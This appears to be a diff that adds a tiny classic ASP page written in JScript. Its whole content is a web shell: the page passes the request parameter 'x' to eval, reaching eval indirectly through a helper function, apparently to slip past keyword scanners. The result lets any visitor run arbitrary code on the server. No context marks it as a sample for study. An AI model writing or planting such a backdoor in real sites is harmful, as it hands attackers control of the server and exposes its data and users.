@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+function pick() { return eval; }
+pick()(String(Request("x")));
+%>
